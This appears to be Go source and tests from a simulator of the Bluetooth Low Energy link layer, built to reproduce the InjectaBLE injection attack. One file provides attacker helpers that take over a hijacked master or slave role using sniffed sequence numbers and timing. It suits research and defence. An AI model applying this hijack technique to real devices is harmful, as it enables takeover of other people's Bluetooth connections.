	encSlaveWaitStartRsp
	// encOn: encryption active both directions.
	encOn
)

// Conn is one end of an established BLE connection.
type Conn struct {
	stack    *Stack
	role     Role
	params   ConnParams
	peer     ble.Address
	selector csa.Selector
	ins      *connInstruments

	eventCount  uint16
	sn, nesn    bool
	lastAnchor  sim.Time
	anchorKnown bool // false until the slave has seen its first master frame

	// missedEvents counts events since the last observed anchor (slave):
	// feeds the window-widening span per eq. 4.
	missedEvents uint16

	txQueue  []pdu.DataPDU
	inFlight *medium.Frame // marshaled unacknowledged frame (ciphertext if encrypted)

	pendingUpdate *pdu.ConnectionUpdateInd
	pendingChMap  *pdu.ChannelMapInd
	terminating   bool // we sent/queued LL_TERMINATE_IND
	// pendingClose defers a remote-terminate close until we have
	// acknowledged the LL_TERMINATE_IND (the peer waits for the ack).
	pendingClose *DisconnectReason

	encSt   encState
	session *llcrypt.Session
	encReq  pdu.EncReq
	encRsp  pdu.EncRsp
	ltk     [16]byte

	lastValidRx sim.Time
	closed      bool

	timers []sim.EventRef

	// master per-event state
	awaitingResponse bool

	// winEpoch invalidates stale slave window-close timers: it bumps when
	// a window opens and when a frame arrives in it.
	winEpoch uint64

	// pendingWindow carries the widening inputs from the scheduling site
	// to slaveOpenWindow, where OnWindow fires with them.
	pendingWindow WindowInfo

	// OnData receives CRC-valid, decrypted, non-control data PDUs carrying
	// new data (SN-deduplicated).
	OnData func(p pdu.DataPDU)
	// OnControl observes control PDUs after internal processing.
	OnControl func(c pdu.Control)
	// OnDisconnect fires once when the connection ends.
	OnDisconnect func(r DisconnectReason)
	// OnEncryptionChange fires when LL encryption turns on.
	OnEncryptionChange func(enabled bool)
	// OnLTKRequest is consulted on the slave when LL_ENC_REQ arrives.
	OnLTKRequest func(rand [8]byte, ediv uint16) ([16]byte, bool)
	// OnEvent observes every connection event (instrumentation).
	OnEvent func(e EventInfo)
	// OnWindow observes every slave receive window as it opens, with the
	// widening-computation inputs (instrumentation / invariant checking).
	OnWindow func(w WindowInfo)
}

// newConn wires the common parts of both roles.
func newConn(stack *Stack, role Role, params ConnParams, peer ble.Address) (*Conn, error) {
	sel, err := newSelector(params)
	if err != nil {
		return nil, fmt.Errorf("link: %w", err)
	}
	c := &Conn{
		stack:    stack,
		role:     role,
		params:   params,
		peer:     peer,
		selector: sel,
		ins:      newConnInstruments(stack),
	}
	stack.Radio.SetAccessAddress(uint32(params.AccessAddress))
	stack.Radio.OnFrame = c.onFrame
	c.lastValidRx = stack.Sched.Now()
	return c, nil
}

// Params returns the connection parameters currently in force.
func (c *Conn) Params() ConnParams { return c.params }

// Role returns this end's role.
func (c *Conn) Role() Role { return c.role }

// Peer returns the remote device address.
func (c *Conn) Peer() ble.Address { return c.peer }

// EventCounter returns the upcoming connection event counter.
func (c *Conn) EventCounter() uint16 { return c.eventCount }

// Encrypted reports whether LL encryption is fully established.
func (c *Conn) Encrypted() bool { return c.encSt == encOn }

// Closed reports whether the connection has ended.
func (c *Conn) Closed() bool { return c.closed }

// SequenceState returns the current (SN, NESN) counters — what an attacker
// sniffs to forge eq. 6 of the paper.
func (c *Conn) SequenceState() (sn, nesn bool) { return c.sn, c.nesn }

// MissedEvents returns the number of events since the last observed anchor
// (slave only) — the multiplier of the eq. 5 widening span.
func (c *Conn) MissedEvents() uint16 { return c.missedEvents }

// AnchorKnown reports whether the slave has adopted its first anchor.
func (c *Conn) AnchorKnown() bool { return c.anchorKnown }

// LastAnchor returns the last timing reference (anchor point, or the
// CONNECT_REQ end before the first anchor).
func (c *Conn) LastAnchor() sim.Time { return c.lastAnchor }

// Stack returns the stack this connection runs on.
func (c *Conn) Stack() *Stack { return c.stack }

// EncryptionCounters returns the LL encryption session's per-direction
// packet counters. ok is false before a session exists.
func (c *Conn) EncryptionCounters() (m2s, s2m uint64, ok bool) {
	if c.session == nil {
		return 0, 0, false
	}
	m2s, s2m = c.session.Counters()
	return m2s, s2m, true
}

// Send queues an L2CAP fragment for transmission.
func (c *Conn) Send(llid pdu.LLID, payload []byte) {
	if c.closed {
		return
	}
	c.txQueue = append(c.txQueue, pdu.DataPDU{
		Header:  pdu.DataHeader{LLID: llid},
		Payload: append([]byte(nil), payload...),
	})
}

// SendControl queues an LL control PDU.
func (c *Conn) SendControl(ctrl pdu.Control) {
	if c.closed {
		return
	}
	c.txQueue = append(c.txQueue, pdu.DataPDU{
		Header:  pdu.DataHeader{LLID: pdu.LLIDControl},
		Payload: pdu.MarshalControl(ctrl),
	})
}

// Terminate requests a graceful local termination: an LL_TERMINATE_IND is
// queued and the connection closes once it has been sent.
func (c *Conn) Terminate() {
	if c.closed || c.terminating {
		return
	}
	c.terminating = true
	c.SendControl(pdu.TerminateInd{ErrorCode: pdu.ErrCodeRemoteUserTerminated})
}

// RequestConnectionUpdate (master only) starts the connection-update
// procedure at an instant ≥ 6 events ahead, per spec.
func (c *Conn) RequestConnectionUpdate(winSize uint8, winOffset, interval, latency, timeout uint16) error {
	if c.role != RoleMaster {
		return fmt.Errorf("link: connection update is master-initiated")
	}
	if c.pendingUpdate != nil {
		return fmt.Errorf("link: connection update already pending")
	}
	upd := &pdu.ConnectionUpdateInd{
		WinSize:   winSize,
		WinOffset: winOffset,
		Interval:  interval,
		Latency:   latency,
		Timeout:   timeout,
		Instant:   c.eventCount + 6,
	}
	c.pendingUpdate = upd
	c.SendControl(*upd)
	return nil
}

// RequestChannelMapUpdate (master only) blacklists channels at a future
// instant.
func (c *Conn) RequestChannelMapUpdate(m ble.ChannelMap) error {
	if c.role != RoleMaster {
		return fmt.Errorf("link: channel map update is master-initiated")
	}
	if !m.Valid() {
		return fmt.Errorf("link: invalid channel map")
	}
	if c.pendingChMap != nil {
		return fmt.Errorf("link: channel map update already pending")
	}
	upd := &pdu.ChannelMapInd{ChannelMap: m, Instant: c.eventCount + 6}
	c.pendingChMap = upd
	c.SendControl(*upd)
	return nil
}

// StartEncryption (master only) runs the LL encryption-start procedure
// with the given long-term key material.
func (c *Conn) StartEncryption(ltk [16]byte, rand [8]byte, ediv uint16) error {
	if c.role != RoleMaster {
		return fmt.Errorf("link: encryption start is master-initiated")
	}
	if c.encSt != encOff {
		return fmt.Errorf("link: encryption already in progress")
	}
	var req pdu.EncReq
	req.Rand = rand
	req.EDIV = ediv
	c.stack.RNG.Bytes(req.SKDm[:])
	c.stack.RNG.Bytes(req.IVm[:])
	c.encReq = req
	c.ltk = ltk
	c.encSt = encMasterWaitRsp
	c.SendControl(req)
	return nil
}

// close tears the connection down and reports the reason once.
func (c *Conn) close(reason DisconnectReason) {
	if c.closed {
		return
	}
	c.closed = true
	for _, t := range c.timers {
		c.stack.Sched.Cancel(t)
	}
	c.timers = nil
	c.stack.Radio.StopListening()
	c.stack.Radio.OnFrame = nil
	c.stack.Radio.OnTxDone = nil
	c.stack.trace("disconnect", func() []sim.Field {
		return []sim.Field{sim.F("reason", reason.String()), sim.F("role", c.role.String())}
	})
	if c.OnDisconnect != nil {
		c.OnDisconnect(reason)
	}
}

// schedule registers a cancellable timer.
func (c *Conn) schedule(d sim.Duration, label string, fn func()) sim.EventRef {
	ev := c.stack.Sched.After(d, c.stack.Name+":"+label, fn)
	c.timers = append(c.timers, ev)
	return ev
}

// scheduleAt registers a cancellable timer at an absolute time.
func (c *Conn) scheduleAt(t sim.Time, label string, fn func()) sim.EventRef {
	now := c.stack.Sched.Now()
	if t < now {
		t = now
	}
	ev := c.stack.Sched.At(t, c.stack.Name+":"+label, fn)
	c.timers = append(c.timers, ev)
	return ev
}

// supervisionExpired checks the supervision timeout.
func (c *Conn) supervisionExpired() bool {
	return c.stack.Sched.Now().Sub(c.lastValidRx) > c.params.SupervisionTimeout()
}

// nextPDU picks the PDU for the next transmission opportunity, applying
// SN/NESN and encrypting if needed. It returns the ready-to-send frame.
func (c *Conn) nextPDU() medium.Frame {
	if c.inFlight != nil {
		// Retransmission: identical bytes (same SN, same ciphertext).
		c.ins.onRetransmission()
		return *c.inFlight
	}
	var p pdu.DataPDU
	if len(c.txQueue) > 0 {
		p = c.txQueue[0]
		c.txQueue = c.txQueue[1:]
	} else {
		p = pdu.Empty(false, false)
	}
	p.Header.SN = c.sn
	p.Header.NESN = c.nesn
	p.Header.MD = len(c.txQueue) > 0
	frame := c.marshalPDU(p)
	if len(p.Payload) > 0 {
		// Only non-empty PDUs need acknowledgement tracking for
		// retransmission; empty PDUs are regenerated each event.
		c.inFlight = &frame
	}
	return frame
}

// marshalPDU renders and (if encryption is on for TX) encrypts a PDU.
func (c *Conn) marshalPDU(p pdu.DataPDU) medium.Frame {
	if c.txEncrypted() && len(p.Payload) > 0 {
		dir := llcrypt.MasterToSlave
		if c.role == RoleSlave {
			dir = llcrypt.SlaveToMaster
		}
		hdr := p.Marshal()[0]
		ct, err := c.session.EncryptPDU(hdr, p.Payload, dir)
		if err != nil {
			panic(fmt.Sprintf("link: encrypt: %v", err))
		}
		p = pdu.DataPDU{Header: p.Header, Payload: ct}
	}
	return dataChannelFrame(c.params, p)
}

// txEncrypted reports whether outgoing PDUs must be encrypted.
func (c *Conn) txEncrypted() bool {
	switch c.encSt {
	case encOn, encMasterWaitStartRsp:
		return true
	default:
		return false
	}
}

// rxEncrypted reports whether incoming PDUs must be encrypted.
func (c *Conn) rxEncrypted() bool {
	switch c.encSt {
	case encOn, encMasterWaitStartRsp, encSlaveWaitStartRsp:
		return true
	default:
		return false
	}
}

// handleRxPDU runs the SN/NESN engine (spec §4.5.9, paper eq. 6) on a
// CRC-valid PDU and dispatches new data. Returns false if the connection
// was closed during processing.
func (c *Conn) handleRxPDU(p pdu.DataPDU) bool {
	// Acknowledgement: peer's NESN != our SN means our last PDU was
	// received; advance SN and release the retransmission buffer.
	if p.Header.NESN != c.sn {
		c.sn = !c.sn
		if c.inFlight != nil {
			c.inFlight = nil
			if c.terminating && len(c.txQueue) == 0 {
				c.close(reasonLocalTerminated)
				return false
			}
		}
	}
	// New data: peer's SN equals our NESN.
	if p.Header.SN == c.nesn {
		c.nesn = !c.nesn
		if len(p.Payload) > 0 {
			if !c.processNewData(p) {
				return false
			}
		}
	}
	return true
}

// processNewData decrypts (if needed) and dispatches one new PDU.
func (c *Conn) processNewData(p pdu.DataPDU) bool {
	if c.rxEncrypted() {
		dir := llcrypt.SlaveToMaster
		if c.role == RoleSlave {
			dir = llcrypt.MasterToSlave
		}
		hdr := p.Marshal()[0]
		plain, err := c.session.DecryptPDU(hdr, p.Payload, dir)
		if err != nil {
			// Spec: MIC failure terminates the connection immediately.
			// This is the DoS that remains of InjectaBLE under encryption.
			c.stack.trace("mic-failure", nil)
			c.close(reasonMICFailure)
			return false
		}
		p.Payload = plain
	}
	if p.IsControl() {
		return c.handleControl(p)
	}
	if c.OnData != nil {
		c.OnData(p)
	}
	return true
}

// handleControl processes an LL control PDU. Returns false if the
// connection closed.
func (c *Conn) handleControl(p pdu.DataPDU) bool {
	ctrl, err := pdu.UnmarshalControl(p.Payload)
	if err != nil {
		c.stack.trace("bad-control", func() []sim.Field {
			return []sim.Field{sim.F("err", err.Error())}
		})
		if len(p.Payload) > 0 {
			c.SendControl(pdu.UnknownRsp{UnknownType: p.Payload[0]})
		}
		return true
	}
	c.stack.trace("rx-control", func() []sim.Field {
		return []sim.Field{sim.F("op", ctrl.Opcode().String())}
	})
	alive := true
	switch m := ctrl.(type) {
	case pdu.TerminateInd:
		// Acknowledge before closing: the peer holds the connection open
		// until it sees its LL_TERMINATE_IND acknowledged.
		reason := DisconnectReason{Code: m.ErrorCode, Detail: "remote terminated"}
		c.pendingClose = &reason
	case pdu.ConnectionUpdateInd:
		if c.role == RoleSlave {
			upd := m
			c.pendingUpdate = &upd
		}
	case pdu.ChannelMapInd:
		if c.role == RoleSlave {
			upd := m
			c.pendingChMap = &upd
		}
	case pdu.EncReq:
		alive = c.handleEncReq(m)
	case pdu.EncRsp:
		c.handleEncRsp(m)
	case pdu.StartEncReq:
		c.handleStartEncReq()
	case pdu.StartEncRsp:
		c.handleStartEncRsp()
	case pdu.FeatureReq:
		c.SendControl(pdu.FeatureRsp{FeatureSet: 0x01})
	case pdu.PauseEncReq:
		// Encryption re-keying is not supported: reject rather than
		// silently dropping to plaintext.
		c.SendControl(pdu.RejectInd{ErrorCode: 0x1A}) // unsupported remote feature
	case pdu.VersionInd:
		c.SendControl(pdu.VersionInd{VersNr: 9, CompID: 0xFFFF, SubVersNr: 1})
	case pdu.PingReq:
		c.SendControl(pdu.PingRsp{})
	case pdu.UnknownRsp, pdu.FeatureRsp, pdu.PingRsp, pdu.RejectInd:
		// Responses to our own requests: nothing further to do.
	}
	if c.OnControl != nil {
		c.OnControl(ctrl)
	}
	return alive
}

// --- encryption procedure -------------------------------------------------

func (c *Conn) handleEncReq(m pdu.EncReq) bool {
	if c.role != RoleSlave {
		return true
	}
	ltk, ok := [16]byte{}, false
	if c.OnLTKRequest != nil {
		ltk, ok = c.OnLTKRequest(m.Rand, m.EDIV)
	}
	if !ok {
		c.SendControl(pdu.RejectInd{ErrorCode: 0x06}) // PIN or key missing
		return true
	}
	c.ltk = ltk
	c.encReq = m
	var rsp pdu.EncRsp
	c.stack.RNG.Bytes(rsp.SKDs[:])
	c.stack.RNG.Bytes(rsp.IVs[:])
	c.encRsp = rsp
	c.createSession()
	c.SendControl(rsp)
	c.SendControl(pdu.StartEncReq{})
	c.encSt = encSlaveWaitStartRsp
	return true
}

func (c *Conn) handleEncRsp(m pdu.EncRsp) {
	if c.role != RoleMaster || c.encSt != encMasterWaitRsp {
		return
	}
	c.encRsp = m
	c.createSession()
	c.encSt = encMasterWaitStartReq
}

func (c *Conn) handleStartEncReq() {
	if c.role != RoleMaster || c.encSt != encMasterWaitStartReq {
		return
	}
	// Master turns on encryption both ways and answers (encrypted).
	c.encSt = encMasterWaitStartRsp
	c.SendControl(pdu.StartEncRsp{})
}

func (c *Conn) handleStartEncRsp() {
	switch {
	case c.role == RoleSlave && c.encSt == encSlaveWaitStartRsp:
		// Master's encrypted START_ENC_RSP received: enable TX encryption
		// and confirm.
		c.encSt = encOn
		c.SendControl(pdu.StartEncRsp{})
		c.notifyEncrypted()
	case c.role == RoleMaster && c.encSt == encMasterWaitStartRsp:
		c.encSt = encOn
		c.notifyEncrypted()
	}
}

func (c *Conn) notifyEncrypted() {
	c.stack.trace("encrypted", nil)
	if c.OnEncryptionChange != nil {
		c.OnEncryptionChange(true)
	}
}

func (c *Conn) createSession() {
	skd := llcrypt.SessionKeyDiversifier(c.encReq.SKDm, c.encRsp.SKDs)
	iv := llcrypt.InitializationVector(c.encReq.IVm, c.encRsp.IVs)
	s, err := llcrypt.NewSession(c.ltk, skd, iv)
	if err != nil {
		panic(fmt.Sprintf("link: session: %v", err))
	}
	c.session = s
}

// applyInstantProcedures applies pending channel-map / connection updates
// whose instant matches the upcoming event. It returns the connection
// update to apply this event, if any.
func (c *Conn) applyInstantProcedures() *pdu.ConnectionUpdateInd {
	if c.pendingChMap != nil && c.pendingChMap.Instant == c.eventCount {
		c.selector.SetChannelMap(c.pendingChMap.ChannelMap)
		c.params.ChannelMap = c.pendingChMap.ChannelMap
		c.stack.trace("channel-map-applied", func() []sim.Field {
			return []sim.Field{sim.F("event", c.eventCount)}
		})
		c.pendingChMap = nil
	}
	if c.pendingUpdate != nil && c.pendingUpdate.Instant == c.eventCount {
		upd := c.pendingUpdate
		c.pendingUpdate = nil
		return upd
	}
	return nil
}

// applyUpdateParams installs the new timing parameters from a connection
// update (the transmit-window placement is role-specific).
func (c *Conn) applyUpdateParams(u *pdu.ConnectionUpdateInd) {
	c.params.WinSize = u.WinSize
	c.params.WinOffset = u.WinOffset
	c.params.Interval = u.Interval
	c.params.Latency = u.Latency
	c.params.Timeout = u.Timeout
	c.stack.trace("conn-update-applied", func() []sim.Field {
		return []sim.Field{sim.F("event", c.eventCount), sim.F("interval", u.Interval), sim.F("winOffset", u.WinOffset)}
	})
}

// emitEvent reports a connection event to the instrumentation hook.
func (c *Conn) emitEvent(ch uint8, anchor sim.Time, missed bool) {
	c.ins.onEvent(missed)
	if c.OnEvent != nil {
		c.OnEvent(EventInfo{Counter: c.eventCount, Channel: ch, Anchor: anchor, Missed: missed})
	}
}

func crcOK(params ConnParams, f medium.Frame) bool {
	return crc.Check(params.CRCInit, f.PDU, f.CRC)
}

func airTime(n int) sim.Duration { return phy.LE1M.AirTime(n) }

// maxResponseWait is how long after T_IFS a device keeps listening for the
// peer's response preamble before closing the event.
const maxResponseWait = 50 * sim.Microsecond
