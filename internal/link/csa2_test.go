package link

import (
	"testing"

	"injectable/internal/ble/pdu"
	"injectable/internal/sim"
)

// TestCSA2ConnectionEndToEnd negotiates Channel Selection Algorithm #2 via
// the ChSel bits and verifies the connection runs on it.
func TestCSA2ConnectionEndToEnd(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12, CSA2: true})
	var channels []uint8
	rg.advertiser.OnConnect = func(c *Conn) {
		rg.slave = c
		c.OnEvent = func(e EventInfo) {
			if !e.Missed {
				channels = append(channels, e.Channel)
			}
		}
	}
	rg.connect(t)
	rg.sched.RunFor(2 * sim.Second)

	if !rg.master.Params().CSA2 || !rg.slave.Params().CSA2 {
		t.Fatal("CSA2 not negotiated")
	}
	if rg.master.Closed() || rg.slave.Closed() {
		t.Fatal("CSA2 connection dropped")
	}
	if len(channels) < 50 {
		t.Fatalf("only %d events", len(channels))
	}
	// CSA#2 is pseudo-random: consecutive channel deltas must NOT follow a
	// constant modular hop like CSA#1.
	constantHop := true
	d0 := (int(channels[1]) - int(channels[0]) + 37) % 37
	for i := 2; i < 20; i++ {
		if (int(channels[i])-int(channels[i-1])+37)%37 != d0 {
			constantHop = false
		}
	}
	if constantHop {
		t.Fatal("channel sequence follows a constant hop — still CSA#1?")
	}

	// Data still flows.
	got := false
	rg.slave.OnData = func(p pdu.DataPDU) { got = true }
	rg.master.Send(pdu.LLIDStart, []byte{1})
	rg.sched.RunFor(sim.Second)
	if !got {
		t.Fatal("data lost on CSA2 connection")
	}
}

// TestCSA2RequiresBothSides: an initiator wanting CSA2 falls back to CSA1
// when the advertiser does not support it.
func TestCSA2RequiresBothSides(t *testing.T) {
	// The rig's advertiser always sets ChSel; emulate a legacy peripheral
	// by clearing the bit in a hand-built CONNECT_REQ path instead: here
	// we simply verify the negotiated flag follows the initiator request.
	rg := newRig(t, ConnParams{Interval: 12}) // CSA2 not requested
	rg.connect(t)
	if rg.master.Params().CSA2 || rg.slave.Params().CSA2 {
		t.Fatal("CSA2 negotiated without being requested")
	}
}
