package link

import (
	"injectable/internal/ble"
	"injectable/internal/sim"
)

// AdoptionState seeds a connection state machine in the middle of an
// established connection — the attacker tooling uses this to step into a
// hijacked role with the sequence numbers and timing sniffed off the air
// (paper §VI-B/C: after expelling the slave with LL_TERMINATE_IND, or
// after splitting the master off with a forged CONNECTION_UPDATE).
type AdoptionState struct {
	// EventCount is the upcoming connection event counter.
	EventCount uint16
	// SN and NESN seed the local sequence counters.
	SN, NESN bool
	// LastAnchor is the last anchor point observed on air.
	LastAnchor sim.Time
}

// AdoptSlave creates a slave-role connection already synchronised to the
// master's anchors: the impersonation step of scenario B.
func AdoptSlave(stack *Stack, params ConnParams, peer ble.Address, st AdoptionState) (*Conn, error) {
	c, err := newConn(stack, RoleSlave, params, peer)
	if err != nil {
		return nil, err
	}
	c.eventCount = st.EventCount
	c.sn, c.nesn = st.SN, st.NESN
	c.lastAnchor = st.LastAnchor
	c.anchorKnown = true
	c.scheduleNextSlaveWindow()
	return c, nil
}

// AdoptMaster creates a master-role connection that transmits its first
// anchor at firstAnchorAt: the takeover step of scenario C, where the
// attacker becomes the slave's master on the forged post-update schedule.
func AdoptMaster(stack *Stack, params ConnParams, peer ble.Address, st AdoptionState, firstAnchorAt sim.Time) (*Conn, error) {
	c, err := newConn(stack, RoleMaster, params, peer)
	if err != nil {
		return nil, err
	}
	c.eventCount = st.EventCount
	c.sn, c.nesn = st.SN, st.NESN
	c.lastAnchor = st.LastAnchor
	c.anchorKnown = true
	c.scheduleAt(firstAnchorAt, "adopted-anchor", c.masterEventBody)
	return c, nil
}
