package link

import (
	"testing"

	"injectable/internal/ble"
	"injectable/internal/ble/pdu"
	"injectable/internal/medium"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// TestTwoConnectionsCoexist runs two independent connections in the same
// room: different access addresses and hop phases mean the occasional
// same-channel overlap is absorbed by CRC/retransmission, as in a real
// apartment full of BLE.
func TestTwoConnectionsCoexist(t *testing.T) {
	sched := sim.NewScheduler()
	rng := sim.NewRNG(90)
	med := medium.New(sched, rng, medium.Config{})

	type pair struct {
		adv *Advertiser
		ini *Initiator
		mst **Conn
		slv **Conn
	}
	mkPair := func(name string, y float64, interval uint16) pair {
		per := newStack(t, sched, med, rng, name+"-per", phy.Position{X: 0, Y: y}, 20)
		cen := newStack(t, sched, med, rng, name+"-cen", phy.Position{X: 2, Y: y}, -15)
		var master, slave *Conn
		adv := NewAdvertiser(per, AdvertiserConfig{Interval: 25 * sim.Millisecond})
		adv.OnConnect = func(c *Conn) { slave = c }
		ini := NewInitiator(cen, InitiatorConfig{Target: per.Address, Params: ConnParams{Interval: interval}})
		ini.OnConnect = func(c *Conn) { master = c }
		return pair{adv, ini, &master, &slave}
	}
	a := mkPair("a", 0, 12)
	b := mkPair("b", 1, 16)

	a.adv.Start()
	b.adv.Start()
	a.ini.Start()
	b.ini.Start()
	sched.RunFor(3 * sim.Second)

	for i, p := range []pair{a, b} {
		if *p.mst == nil || *p.slv == nil {
			t.Fatalf("pair %d did not connect", i)
		}
	}
	// Exchange data on both, concurrently.
	var gotA, gotB []byte
	(*a.slv).OnData = func(p pdu.DataPDU) { gotA = append(gotA, p.Payload...) }
	(*b.slv).OnData = func(p pdu.DataPDU) { gotB = append(gotB, p.Payload...) }
	for i := 0; i < 10; i++ {
		(*a.mst).Send(pdu.LLIDStart, []byte{0xA0 + byte(i)})
		(*b.mst).Send(pdu.LLIDStart, []byte{0xB0 + byte(i)})
	}
	sched.RunFor(3 * sim.Second)
	if (*a.mst).Closed() || (*b.mst).Closed() {
		t.Fatal("a connection died from coexistence")
	}
	if len(gotA) != 10 || len(gotB) != 10 {
		t.Fatalf("data lost under coexistence: a=%d b=%d of 10", len(gotA), len(gotB))
	}
	for i, v := range gotA {
		if v != 0xA0+byte(i) {
			t.Fatalf("pair a data corrupted/reordered: % x", gotA)
		}
	}
}

// TestConnectionSurvivesInterferenceBursts injects periodic wideband noise
// bursts: CRC failures must be retransmitted, never lost or duplicated.
func TestConnectionSurvivesInterferenceBursts(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12, Timeout: 300})
	rg.connect(t)

	jammer := rg.med.NewRadio(medium.RadioConfig{Name: "microwave", Position: phy.Position{X: 1, Y: 0.3}})
	stop := false
	var jam func()
	jam = func() {
		if stop {
			return
		}
		// Hop the jammer across channels, bursting 2 ms of noise.
		jammer.SetChannel(phy.Channel(rg.perStack.RNG.Intn(37)))
		jammer.TransmitNoise(2 * sim.Millisecond)
		jammer.OnTxDone = func() {
			jammer.OnTxDone = nil
			rg.sched.After(5*sim.Millisecond, "jam-again", jam)
		}
	}
	jam()

	var got []byte
	rg.slave.OnData = func(p pdu.DataPDU) { got = append(got, p.Payload[0]) }
	const n = 30
	for i := 0; i < n; i++ {
		rg.master.Send(pdu.LLIDStart, []byte{byte(i)})
	}
	rg.sched.RunFor(8 * sim.Second)
	stop = true

	if rg.master.Closed() || rg.slave.Closed() {
		t.Fatal("connection died under interference")
	}
	if len(got) != n {
		t.Fatalf("received %d/%d PDUs under interference", len(got), n)
	}
	for i, v := range got {
		if v != byte(i) {
			t.Fatalf("reordered or duplicated under interference at %d: %v", i, got)
		}
	}
}

// TestConnectionAtSensitivityEdge runs a link at long range where frames
// occasionally fade: SN/NESN must keep the stream exact.
func TestConnectionAtSensitivityEdge(t *testing.T) {
	sched := sim.NewScheduler()
	rng := sim.NewRNG(91)
	med := medium.New(sched, rng, medium.Config{})
	// ~48 m apart: RSSI ≈ -88 dBm, 2 dB above sensitivity — lossy.
	per := newStack(t, sched, med, rng, "far-per", phy.Position{X: 0}, 10)
	cen := newStack(t, sched, med, rng, "far-cen", phy.Position{X: 48}, -10)

	var master, slave *Conn
	adv := NewAdvertiser(per, AdvertiserConfig{Interval: 25 * sim.Millisecond})
	adv.OnConnect = func(c *Conn) { slave = c }
	ini := NewInitiator(cen, InitiatorConfig{Target: per.Address, Params: ConnParams{Interval: 12, Timeout: 500}})
	ini.OnConnect = func(c *Conn) { master = c }
	adv.Start()
	ini.Start()
	sched.RunFor(10 * sim.Second)
	if master == nil || slave == nil {
		t.Skip("link did not establish at this range (acceptable at the edge)")
	}
	var got []byte
	slave.OnData = func(p pdu.DataPDU) { got = append(got, p.Payload[0]) }
	const n = 20
	for i := 0; i < n; i++ {
		master.Send(pdu.LLIDStart, []byte{byte(i)})
	}
	sched.RunFor(20 * sim.Second)
	if master.Closed() || slave.Closed() {
		t.Skip("edge link dropped (acceptable); retransmission path still exercised")
	}
	if len(got) != n {
		t.Fatalf("lossy link delivered %d/%d", len(got), n)
	}
	for i, v := range got {
		if v != byte(i) {
			t.Fatalf("order violated at %d", i)
		}
	}
}

// TestSlaveLatencyWithPendingDataWakes: a slave with latency must wake
// early when it has data queued.
func TestSlaveLatencyWithPendingDataWakes(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12, Latency: 6})
	rg.connect(t)
	var got []byte
	rg.master.OnData = func(p pdu.DataPDU) { got = append(got, p.Payload...) }
	rg.slave.Send(pdu.LLIDStart, []byte{0x42})
	// With latency 6 the slave could sleep ~7 events (105 ms); with data
	// pending it must deliver at the next event (~15 ms). Allow some slack.
	rg.sched.RunFor(80 * sim.Millisecond)
	if len(got) != 1 || got[0] != 0x42 {
		t.Fatalf("latency slave did not wake with pending data: %v", got)
	}
}

// TestChannelMapUpdateToMinimalMap exercises the smallest legal map.
func TestChannelMapUpdateToMinimalMap(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 12})
	rg.connect(t)
	min := ble.ChannelMap(0b11) // channels 0 and 1 only
	if err := rg.master.RequestChannelMapUpdate(min); err != nil {
		t.Fatal(err)
	}
	rg.sched.RunFor(3 * sim.Second)
	if rg.master.Closed() || rg.slave.Closed() {
		t.Fatal("connection died on minimal map")
	}
	ok := false
	rg.slave.OnData = func(p pdu.DataPDU) { ok = true }
	rg.master.Send(pdu.LLIDStart, []byte{1})
	rg.sched.RunFor(sim.Second)
	if !ok {
		t.Fatal("no data on minimal map")
	}
}
