package link

import (
	"testing"

	"injectable/internal/ble"
	"injectable/internal/ble/pdu"
	"injectable/internal/medium"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// rig is a two-device test rig: a peripheral advertising and a central
// initiating, 2 m apart.
type rig struct {
	sched      *sim.Scheduler
	med        *medium.Medium
	perStack   *Stack
	cenStack   *Stack
	advertiser *Advertiser
	initiator  *Initiator
	master     *Conn
	slave      *Conn
}

func newStack(t *testing.T, sched *sim.Scheduler, med *medium.Medium, rng *sim.RNG,
	name string, pos phy.Position, ppm float64) *Stack {
	t.Helper()
	r := rng.Child(name)
	clock := sim.NewClock(sched, r.Child("clock"), sim.ClockConfig{
		RatedPPM:     50,
		ActualPPM:    &ppm,
		JitterStdDev: sim.Microsecond,
	})
	return &Stack{
		Name:    name,
		Sched:   sched,
		Clock:   clock,
		RNG:     r,
		Radio:   med.NewRadio(medium.RadioConfig{Name: name, Position: pos}),
		Address: ble.RandomAddress(r),
	}
}

func newRig(t *testing.T, params ConnParams) *rig {
	t.Helper()
	sched := sim.NewScheduler()
	rng := sim.NewRNG(1234)
	med := medium.New(sched, rng, medium.Config{})
	rg := &rig{
		sched:    sched,
		med:      med,
		perStack: newStack(t, sched, med, rng, "peripheral", phy.Position{X: 0}, 30),
		cenStack: newStack(t, sched, med, rng, "central", phy.Position{X: 2}, -20),
	}
	rg.advertiser = NewAdvertiser(rg.perStack, AdvertiserConfig{
		AdvData:  []byte{0x02, 0x01, 0x06},
		Interval: 30 * sim.Millisecond,
	})
	rg.advertiser.OnConnect = func(c *Conn) { rg.slave = c }
	rg.initiator = NewInitiator(rg.cenStack, InitiatorConfig{
		Target: rg.perStack.Address,
		Params: params,
	})
	rg.initiator.OnConnect = func(c *Conn) { rg.master = c }
	return rg
}

// connect starts both sides and runs until the connection is established
// with a few exchanged events.
func (rg *rig) connect(t *testing.T) {
	t.Helper()
	rg.advertiser.Start()
	rg.initiator.Start()
	rg.sched.RunFor(2 * sim.Second)
	if rg.master == nil || rg.slave == nil {
		t.Fatal("connection not established within 2 s")
	}
}

func TestConnectionEstablishment(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 36})
	var slaveEvents []EventInfo
	rg.advertiser.OnConnect = func(c *Conn) {
		rg.slave = c
		c.OnEvent = func(e EventInfo) { slaveEvents = append(slaveEvents, e) }
	}
	rg.connect(t)

	if rg.master.Role() != RoleMaster || rg.slave.Role() != RoleSlave {
		t.Fatal("roles wrong")
	}
	if rg.master.Closed() || rg.slave.Closed() {
		t.Fatal("connection dropped")
	}
	if len(slaveEvents) < 10 {
		t.Fatalf("only %d slave events in 2 s at 45 ms interval", len(slaveEvents))
	}
	missed := 0
	for _, e := range slaveEvents {
		if e.Missed {
			missed++
		}
	}
	if missed > len(slaveEvents)/10 {
		t.Fatalf("%d/%d events missed — timing model broken", missed, len(slaveEvents))
	}
	if rg.master.Peer() != rg.perStack.Address || rg.slave.Peer() != rg.cenStack.Address {
		t.Fatal("peer addresses wrong")
	}
}

func TestConnectionHopsChannels(t *testing.T) {
	rg := newRig(t, ConnParams{Interval: 24, Hop: 7})
	seen := map[uint8]bool{}
